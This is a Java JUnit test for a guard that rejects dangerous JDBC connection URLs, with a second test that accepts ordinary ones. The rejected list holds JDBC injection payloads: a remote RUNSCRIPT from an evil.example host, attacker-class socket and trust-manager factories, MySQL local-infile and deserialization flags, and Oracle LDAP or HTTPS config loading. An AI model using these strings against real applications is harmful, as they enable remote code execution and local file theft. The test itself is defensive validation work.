package io.tongban.hub.outbound;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlGuardTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
        "jdbc:postgresql://h/d?socketFactory=org.evil.X&socketFactoryArg=1",
        "jdbc:postgresql://h/d?xmlFactoryFactory=org.evil.X",
        "jdbc:postgresql://h/d?sslpasswordcallback=org.evil.X",
        "jdbc:postgresql://h/d?authenticationPluginClassName=org.evil.X",
        "jdbc:mysql://h/d?autoDeserialize=true",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?%61llowLoadLocalInfile=true",
        "jdbc:mysql://(host=h,port=1,allowLoadLocalInfile=true)/d",
        "jdbc:mysql://address=(host=h)(allowUrlInLocalInfile=true)/d",
        "jdbc:mysql://h/d?queryInterceptors=x",
        "jdbc:mysql://h/d?propertiesTransform=x",
        "jdbc:mysql://h/d?loadBalanceStrategy=x",
        "jdbc:mysql+srv://h/d",
        "jdbc:mariadb://h/d?allowLocalInfile=true",
        "jdbc:mariadb://h/d?initSql=DROP",
        "jdbc:mariadb://h/d?sessionVariables=sql_mode=x",
        "jdbc:mariadb://h/d?localSocket=/run/x",
        "jdbc:sqlserver://h;socketFactoryClass=org.evil.X",
        "jdbc:sqlserver://h; trustManagerClass = org.evil.X",
        "jdbc:sqlserver://h;trustStore=/etc/passwd",
        "jdbc:sqlserver://h;{accessTokenCallbackClass}=x;accessTokenCallbackClass=x",
        "jdbc:oracle:thin:@ldap://evil.example:389/cn=x",
        "jdbc:oracle:thin:@config-https://evil.example/x",
        "jdbc:oracle:thin:@https://evil.example/x",
        "jdbc:oracle:thin:@x?TNS_ADMIN=/tmp",
        "jdbc:oracle:thin:@tcps://h:1/s?oracle.net.wallet_location=/tmp",
        "jdbc:oracle:thin:@tcps://h:1/s?wallet_location=/tmp",
        "jdbc:duckdb:",
        "jdbc:duckdb:/etc/x",
        "JDBC:duckdb::memory:x",
        "http://h"
      })
  void refusesWhatMakesADriverLoadRunOrRead(String url) {
    assertThatThrownBy(() -> JdbcUrlGuard.check("it", url))
        .hasMessageContaining("outbound-refused")
        .hasMessageContaining("\"it\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
        "jdbc:postgresql://h:5432/classes?sslmode=verify-full&options=-c%20x",
        "jdbc:mysql://h:3306/handlers?useSSL=true&serverTimezone=UTC",
        "jdbc:mariadb://h/d?sslMode=verify-full&useServerPrepStmts=true",
        "jdbc:sqlserver://h:1433;databaseName=people;encrypt=true;trustServerCertificate=false",
        "jdbc:oracle:thin:@//h:1521/service",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1521))"
            + "(CONNECT_DATA=(SERVICE_NAME=s)))"
      })
  void takesOrdinaryUrls(String url) {
    assertThatCode(() -> JdbcUrlGuard.check("it", url)).doesNotThrowAnyException();
  }
}
